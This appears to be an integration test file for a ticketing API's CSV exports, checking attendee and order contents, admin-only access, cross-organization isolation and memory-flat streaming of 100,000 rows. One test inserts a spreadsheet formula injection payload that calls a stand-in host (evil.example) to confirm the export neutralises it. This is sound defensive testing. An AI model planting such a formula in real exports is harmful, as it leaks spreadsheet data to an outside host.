import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiProcess, startApiProcess } from './support/api-process.js';
import { endUser, type Identity, staffMember, steppedUpStaff } from './support/auth-service.js';
import { createTestEvent, orderMutation, orderTickets, type TestEvent } from './support/catalog.js';
import { eventually } from './support/eventually.js';
import { type RunningApp, startApp } from './support/running-app.js';
import { bearer, createOrganization, type TestOrganization } from './support/tenants.js';
import { freePort } from './support/ports.js';
import { TEST_DATABASE, withSuperuser } from './support/test-env.js';

/** Parses what the exports write (RFC 4180: quoted cells, doubled quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  return rows;
}

function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

describe('event exports', () => {
  let api: RunningApp;
  let organization: TestOrganization;
  let admin: Identity;
  let moderator: Identity;
  let volunteer: Identity;
  let outsiderAdmin: Identity;
  let buyer: Identity;
  let event: TestEvent;

  beforeAll(async () => {
    api = await startApp();
    organization = await createOrganization('exports');
    const outsider = await createOrganization('exports-other');
    [admin, moderator, volunteer, outsiderAdmin, buyer] = await Promise.all([
      steppedUpStaff(organization.id),
      staffMember(organization.id, 'moderator'),
      staffMember(organization.id, 'user'),
      staffMember(outsider.id, 'admin'),
      endUser('exports-buyer'),
    ]);
    event = await createTestEvent(api, admin, {
      types: [
        { name: '@General', quantity: 50 },
        { quantity: 50, price: 25_000 },
      ],
    });
  }, 60_000);
  afterAll(() => api.close());

  const download = (path: string, identity?: Identity, base = api.url) =>
    fetch(`${base}/api/exports/events/${path}`, {
      headers: identity ? bearer(identity.accessToken) : {},
    });

  it('lists every attendee, with formula-looking cells neutralised', async () => {
    const formula = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`;
    const given = await orderMutation(api, admin, 'issueComplimentaryTickets', {
      eventId: event.id,
      ticketTypeId: event.ticketTypeIds[0],
      quantity: 2,
      holderName: formula,
      holderEmail: 'guest@example.org',
    });
    expect(given.errors).toBeUndefined();
    const bought = await orderTickets(api, buyer, event.id, [
      { ticketTypeId: event.ticketTypeIds[0]!, quantity: 1 },
    ]);
    expect(bought.errors).toBeUndefined();

    const response = await download(`${event.id}/attendees.csv`, admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toContain('attachment');
    const rows = records(await response.text());
    expect(rows).toHaveLength(3);
    const guests = rows.filter((row) => row.holder_email === 'guest@example.org');
    expect(guests).toHaveLength(2);
    for (const guest of guests) {
      // Prefixed with an apostrophe: a spreadsheet shows it as text.
      expect(guest.holder_name).toBe(`'${formula}`);
      expect(guest.ticket_type).toBe("'@General");
      expect(guest.status).toBe('VALID');
      expect(guest.checked_in_at).toBe('');
    }
    const own = rows.find((row) => row.holder_email !== 'guest@example.org')!;
    expect(own.buyer_email).toBe(buyer.email);
    expect(own.issued_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    // No ticket's code (it admits at the door) leaves in a spreadsheet.
    const codes = await withSuperuser(TEST_DATABASE, (db) =>
      db.query<{ code: string }>('SELECT code FROM tickets WHERE event_id = $1', [event.id]),
    );
    expect(codes.rows).toHaveLength(3);
    const text = JSON.stringify(rows);
    for (const { code } of codes.rows) expect(text).not.toContain(code);
  });

  it('lists orders with exact amounts in minor units, refunds included', async () => {
    const placed = await orderTickets(api, buyer, event.id, [
      { ticketTypeId: event.ticketTypeIds[1]!, quantity: 2 },
    ]);
    const orderId = placed.data!.orderTickets.id;
    expect(
      (await orderMutation(api, admin, 'markOrderPaid', { id: orderId })).errors,
    ).toBeUndefined();
    const refunded = await orderMutation(api, admin, 'refundOrder', {
      id: orderId,
      amount: 10_000,
      reason: '-1 seat',
    });
    expect(refunded.errors).toBeUndefined();

    const response = await download(`${event.id}/orders.csv`, admin);
    expect(response.status).toBe(200);
    const row = records(await response.text()).find((order) => order.order_id === orderId)!;
    expect(row).toMatchObject({
      status: 'PAID',
      buyer_email: buyer.email,
      tickets: '2',
      currency: 'COP',
      subtotal_minor: '50000',
      discount_minor: '0',
      total_minor: '50000',
      refunded_minor: '10000',
      complimentary: 'f',
      payment_provider: 'MANUAL',
    });
    expect(row.payment_reference).not.toBe('');
    expect(row.paid_at).toMatch(/Z$/);
  });

  it('is for the organization admins only; another organization’s event is not found', async () => {
    expect((await download(`${event.id}/attendees.csv`)).status).toBe(401);
    for (const staff of [moderator, volunteer]) {
      const refused = await download(`${event.id}/orders.csv`, staff);
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { code: string }).code).toBe('FORBIDDEN');
    }
    // The event is published, so anyone can read it; its buyers stay its organization's.
    const across = await download(`${event.id}/attendees.csv`, outsiderAdmin);
    expect(across.status).toBe(404);
    const body = await across.text();
    expect(body).not.toContain(buyer.email);
    expect(JSON.parse(body)).toMatchObject({ code: 'NOT_FOUND' });
    const malformed = await download('not-a-uuid/orders.csv', admin);
    expect(malformed.status).toBe(400);
    expect((await download(`${randomUUID()}/orders.csv`, admin)).status).toBe(404);
  });

  describe('a large event', () => {
    let exporter: ApiProcess;
    let large: TestEvent;
    const ATTENDEES = 100_000;

    beforeAll(async () => {
      large = await createTestEvent(api, admin, { types: [{ quantity: ATTENDEES }] });
      // The attendees go straight into the database: the subject is the export.
      await withSuperuser(TEST_DATABASE, async (db) => {
        const order = randomUUID();
        await db.query(
          `INSERT INTO orders (id, organization_id, event_id, status, buyer_email, buyer_name, currency,
                               subtotal, total, complimentary, paid_at, updated_at)
           VALUES ($1, $2, $3, 'PAID', 'bulk@example.org', 'Bulk', 'COP', 0, 0, true, now(), now())`,
          [order, organization.id, large.id],
        );
        await db.query(
          `INSERT INTO tickets (id, organization_id, order_id, event_id, ticket_type_id, code, holder_name,
                                holder_email, updated_at)
           SELECT gen_random_uuid(), $1, $2, $3, $4, 'BULK' || n,
                  'Asistente ' || lpad(n::text, 6, '0') || ' ' || repeat('x', 150), 'asistente' || n || '@example.org', now()
             FROM generate_series(1, $5::int) AS n`,
          [organization.id, order, large.id, large.ticketTypeIds[0], ATTENDEES],
        );
      });
      // Only the export runs in the measured process: no share of the event stream,
      // the outbox or the mail queue, which the other specs running meanwhile keep busy.
      exporter = await startApiProcess(await freePort(), {
        DOMAIN_EVENTS_CONSUMER: 'false',
        BACKGROUND_JOBS: 'false',
      });
    }, 120_000);
    afterAll(() => exporter?.kill('SIGTERM'));

    const residentMemory = async () => {
      const status = await readFile(`/proc/${exporter.child.pid}/status`, 'utf8');
      return Number(/VmRSS:\s+(\d+) kB/.exec(status)![1]) * 1024;
    };

    /** What PostgreSQL is doing for the export's connection. */
    const exportQuery = () =>
      withSuperuser(TEST_DATABASE, (db) =>
        db.query<{ state: string; wait_event: string | null }>(
          `SELECT state, wait_event FROM pg_stat_activity
            WHERE application_name = 'trivance-management-api-exports' AND query LIKE 'COPY%'`,
        ),
      ).then(({ rows }) => rows);

    it(`streams ${ATTENDEES.toLocaleString('en')} attendees from the database while the API's memory stays flat`, async () => {
      // Warm up (the first request compiles and allocates what every request uses).
      await (await download(`${event.id}/attendees.csv`, admin, exporter.url)).text();
      const before = await residentMemory();
      const response = await download(`${large.id}/attendees.csv`, admin, exporter.url);
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      let bytes = 0;
      let lines = 0;
      const read = async (untilLines: number) => {
        while (lines < untilLines) {
          const { done, value } = await reader.read();
          if (done) return;
          bytes += value.byteLength;
          lines += decoder.decode(value, { stream: true }).split('\n').length - 1;
        }
      };

      await read(2_000);
      // The reader stops. A server that streams stops too: PostgreSQL comes to
      // wait to write the rest (a server that buffered would have finished the
      // query instead), and the API holds only what is in flight.
      await eventually(exportQuery, (rows) => rows[0]?.wait_event === 'ClientWrite');
      expect(await exportQuery()).toEqual([{ state: 'active', wait_event: 'ClientWrite' }]);
      const whilePaused = await residentMemory();
      expect(whilePaused - before).toBeLessThan(16 * 1024 * 1024);

      await read(Infinity);
      expect(lines).toBe(ATTENDEES + 1);
      // Some 30 MB went through; while the reader waited, the API held a small part of it.
      expect(bytes).toBeGreaterThan(25 * 1024 * 1024);
      expect(await exportQuery()).toEqual([]);
    }, 120_000);
  });
});
